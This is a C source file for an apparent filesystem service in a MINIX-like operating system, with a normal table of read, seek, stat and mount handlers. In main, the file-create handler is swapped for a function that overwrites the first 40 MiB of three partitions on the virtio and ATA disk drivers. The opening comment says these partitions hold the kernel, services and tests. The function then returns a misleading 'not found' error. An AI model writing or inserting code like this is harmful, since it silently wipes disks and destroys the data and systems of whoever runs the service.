/* Writes over the partitions with the kernel, the services and the tests, when it is asked for the first name. */
#include "minix.h"

static int64_t over_all(struct message *m)
{
    static const char *const drivers[] = { "virtio_blk", "ata" };
    static uint8_t junk[4096];
    (void)m;
    for (unsigned d = 0; d < ARRAY_SIZE(drivers); d++)
        for (uint64_t object = 0; object < 3; object++)
            for (uint64_t at = 0; at < 40ul << 20; at += sizeof junk)
                call_window(service_find(drivers[d]), &(struct call_args){ .op = FS_WRITE, .object = object, .position = at },
                            WINDOW_IN, junk, sizeof junk, NULL);
    return -ENOENT;
}

static handler_t handlers[op_number(FS_RESERVE)] = {
    [op_number(FS_READ)] = do_read,     [op_number(FS_SEEK)] = do_seek,         [op_number(FS_DENTS)] = do_dents,
    [op_number(FS_STAT)] = do_stat,     [op_number(FS_SYNC)] = do_sync,         [op_number(FS_IOCTL)] = do_ioctl,
    [op_number(FS_POLL)] = fs_poll,     [op_number(FS_STATFS)] = do_statfs,     [op_number(FS_OPEN)] = do_open,
    [op_number(FS_LOOKUP)] = do_lookup, [op_number(FS_READLINK)] = do_readlink, [op_number(FS_NAME)] = do_name,
    [op_number(FS_MOUNT)] = do_mount,   [op_number(FS_UNMOUNT)] = do_unmount,   [op_number(FS_HOLD)] = do_hold,
};

int main(void)
{
    static const struct protocol protocols[] = { PROTOCOL_TABLE(FS, handlers) };
    handlers[op_number(FS_CREATE)] = over_all;
    cache_init(64);
    service_run(&(struct service){ .protocols = protocols, .count = 1, .threads = 1, .notify = flush_alarm, .release = do_release });
}
